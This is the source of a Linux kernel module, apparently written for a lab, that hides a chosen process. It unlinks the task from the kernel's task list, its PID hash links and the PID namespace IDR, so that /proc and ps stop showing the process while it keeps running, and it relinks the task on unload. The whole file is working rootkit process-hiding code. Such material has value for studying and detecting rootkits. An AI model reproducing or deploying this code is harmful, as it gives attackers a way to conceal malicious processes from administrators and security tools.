// SPDX-License-Identifier: GPL-2.0-only
/*
 * Removes a process from the list of tasks and from the PIDs that /proc lists. The process still
 * runs: the scheduler has its own lists.
 */
#include "lab.h"

#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0444);

static struct task_struct *task;
static struct pid_namespace *ns;

static int __init hidetask_init(void)
{
	task = pid_task(find_get_pid(pid), PIDTYPE_TGID);
	ns = (void *)lab_symbol("init_pid_ns");
	if (!task || !ns)
		return -ESRCH;
	local_irq_disable();
	list_del_rcu(&task->tasks);
	hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
	hlist_del_rcu(&task->pid_links[PIDTYPE_TGID]);
	idr_remove(&ns->idr, pid);
	local_irq_enable();
	return 0;
}

static void __exit hidetask_exit(void)
{
	struct pid *p = task->thread_pid;

	local_irq_disable();
	idr_alloc(&ns->idr, p, pid, pid + 1, GFP_ATOMIC);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID], &p->tasks[PIDTYPE_PID]);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID], &p->tasks[PIDTYPE_TGID]);
	list_add_rcu(&task->tasks, &((struct task_struct *)lab_symbol("init_task"))->tasks);
	local_irq_enable();
}
module_init(hidetask_init);
module_exit(hidetask_exit);
